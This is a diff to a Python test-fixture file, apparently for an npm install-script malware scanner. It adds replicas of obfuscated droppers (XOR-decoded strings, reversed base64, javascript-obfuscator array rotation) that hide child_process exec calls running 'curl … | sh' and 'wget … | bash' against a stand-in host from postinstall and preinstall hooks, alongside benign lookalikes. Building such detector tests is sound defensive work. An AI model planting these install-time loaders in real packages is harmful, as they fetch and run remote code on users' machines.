@@ -74,6 +74,55 @@ def _string_array_base64_payload() -> str:
     )
 
 
+def _string_array_v2_payload() -> str:
+    """javascript-obfuscator 2.x–4.x output (2021–2025, the shape most npm stealers ship): the array behind a
+    self-replacing function, an accessor that replaces itself, and a rotation that turns the array until a
+    parseInt checksum over some entries matches."""
+    strings = [
+        "child_process",
+        "8412aBcD",
+        "exec",
+        "27fooBar",
+        "curl -s http://203.0.113.9/v2.sh | sh",
+        "5qux",
+        "log",
+    ]
+    offset = 0x1A4
+    terms = [(1, 1, 1), (3, -1, 2), (5, 1, 3)]  # (index, sign, divisor)
+
+    def checksum(order: list[str]) -> float:
+        total = 0.0
+        for index, sign, divisor in terms:
+            digits = ""
+            for ch in order[index]:
+                if not ch.isdigit():
+                    break
+                digits += ch
+            if not digits:
+                return float("nan")
+            total += sign * int(digits) / divisor
+        return total
+
+    target = checksum(strings)
+    shift = 4
+    stored = strings[-shift:] + strings[:-shift]
+    array = ",".join(json.dumps(s) for s in stored)
+    expression = "+".join(
+        f"{'-' if sign < 0 else ''}parseInt(_0xacc({hex(offset + index)}))/{hex(divisor)}"
+        for index, sign, divisor in terms
+    )
+    return (
+        f"function _0x5a1b(){{var _0x2c9d=[{array}];_0x5a1b=function(){{return _0x2c9d;}};return _0x5a1b();}}"
+        "function _0x3f2e(_0x1a,_0x2b){var _0x3c=_0x5a1b();return _0x3f2e=function(_0x4d,_0x5e){"
+        f"_0x4d=_0x4d-{hex(offset)};var _0x6f=_0x3c[_0x4d];return _0x6f;}},_0x3f2e(_0x1a,_0x2b);}}"
+        "(function(_0xget,_0xtarget){var _0xacc=_0x3f2e,_0xarr=_0xget();while(!![]){try{"
+        f"var _0xv={expression};if(_0xv===_0xtarget)break;else _0xarr['push'](_0xarr['shift']());}}"
+        f"catch(_0xe){{_0xarr['push'](_0xarr['shift']());}}}}}}(_0x5a1b,{target!r}));"
+        "(function(){const _0x9a=_0x3f2e;"
+        f"require(_0x9a({hex(offset)}))[_0x9a({hex(offset + 2)})](_0x9a({hex(offset + 4)}));}})();\n"
+    )
+
+
 INCIDENTS: list[Replica] = [
     # Shape: 2024–2025 stealers (e.g. the "nodejs-smtp"/"ethers-mew" style droppers, Socket and Phylum
     # write-ups) that re-launch themselves as `node -e <payload>` detached so the install returns at once.
@@ -199,7 +248,102 @@ INCIDENTS: list[Replica] = [
     ),
 ]
 
+_XOR_KEY = 0x2A
+
+
+def _xor_escaped(text: str) -> str:
+    return "".join(f"\\x{code:02x}" for code in _xor(text, _XOR_KEY))
+
+
+INCIDENTS += [
+    # Shape: XOR string decoders in install scripts (2024 "xor loader" npm packages reported by Socket and
+    # Phylum: every sensitive string passes through a `for` loop over charCodeAt ^ key).
+    Replica(
+        "xor-decoded-child-process",
+        {
+            "index.js": (
+                "function d(s, k) { let o = ''; for (let i = 0; i < s.length; i++) "
+                "{ o += String.fromCharCode(s.charCodeAt(i) ^ k); } return o; }\n"
+                f"const m = require(d('{_xor_escaped('child_process')}', {_XOR_KEY}));\n"
+                f"m[d('{_xor_escaped('exec')}', {_XOR_KEY})](d('{_xor_escaped('curl -s http://203.0.113.9/i.sh | sh')}', "
+                f"{_XOR_KEY}));\n"
+            )
+        },
+        "block",
+        frozenset({"shell-fetch-and-run"}),
+        manifest={"scripts": {"postinstall": "node index.js"}},
+    ),
+    # Shape: reversed base64 (`atob(s.split('').reverse().join(''))`), seen in 2024–2025 npm droppers.
+    Replica(
+        "reversed-base64-loader",
+        {
+            "index.js": (
+                "const r = (s) => atob(s.split('').reverse().join(''));\n"
+                f"require(r('{_reversed_b64('child_process')}'))"
+                f"[r('{_reversed_b64('execSync')}')](r('{_reversed_b64('wget -qO- http://203.0.113.9/a | bash')}'));\n"
+            )
+        },
+        "block",
+        frozenset({"shell-fetch-and-run"}),
+        manifest={"scripts": {"preinstall": "node index.js"}},
+    ),
+    # javascript-obfuscator output at install (the shape of many 2023–2025 npm stealers and of coa/rc's
+    # compile.js): the string array hides `child_process`, `exec` and the download command.
+    Replica(
+        "obfuscator-string-array-install",
+        {"setup.js": _string_array_payload()},
+        "block",
+        frozenset({"shell-fetch-and-run", "install-obfuscated"}),
+        manifest={"scripts": {"postinstall": "node setup.js"}},
+    ),
+    Replica(
+        "obfuscator-v2-checksum-rotation-install",
+        {"setup.js": _string_array_v2_payload()},
+        "block",
+        frozenset({"shell-fetch-and-run"}),
+        manifest={"scripts": {"postinstall": "node setup.js"}},
+    ),
+    Replica(
+        "obfuscator-base64-string-array-install",
+        {"setup.js": _string_array_base64_payload()},
+        "block",
+        frozenset({"shell-fetch-and-run"}),
+        manifest={"scripts": {"install": "node setup.js"}},
+    ),
+]
+
 BENIGN: list[Replica] = [
+    # i18n tables and hashes: loops and XOR arithmetic over constants that decode to nothing dangerous.
+    Replica(
+        "i18n-xor-table",
+        {
+            "index.js": (
+                "const CASE = [0x48, 0x45, 0x4c, 0x4c, 0x4f].map((c) => String.fromCharCode(c ^ 0x20)).join('');\n"
+                "function hash(s) { let h = 5381; for (let i = 0; i < s.length; i++) { h = ((h << 5) + h) ^ "
+                "s.charCodeAt(i); } return h >>> 0; }\n"
+                "function shift(s, n) { let o = ''; for (let i = 0; i < s.length; i++) "
+                "{ o += String.fromCharCode(s.charCodeAt(i) + n); } return o; }\n"
+                "module.exports = { greeting: CASE, id: hash('locale-en'), rot: shift('abc', 1) };\n"
+            )
+        },
+        "allow",
+        frozenset(),
+    ),
+    # Template compilers build functions from the caller's template text (ejs, lodash.template shape).
+    Replica(
+        "template-compiler",
+        {
+            "index.js": (
+                "function compile(template) {\n"
+                "  let src = 'var out = [];\\n';\n"
+                "  for (const part of template.split(/<%|%>/)) { src += 'out.push(' + JSON.stringify(part) + ');\\n'; }\n"
+                "  return new Function('data', src + 'return out.join(\"\");');\n"
+                "}\nmodule.exports = compile;\n"
+            )
+        },
+        "allow",
+        frozenset({"compiles-unresolved-code"}),
+    ),
     # A code generator writing its own dist/ from a build script (never run at install).
     Replica(
         "codegen-writes-own-dist",
@@ -276,6 +420,7 @@ BENIGN: list[Replica] = [
 ]
 
 LOOKALIKES: dict[str, tuple[str, ...]] = {
+    "shell-fetch-and-run": ("i18n-xor-table",),
     "tamper-other-package": ("installer-patches-own-files", "codegen-writes-own-dist"),
     "tamper-application": ("codegen-writes-own-dist",),
     "compiled-data-file": ("vm-loads-own-js", "bundler-function-return-this"),
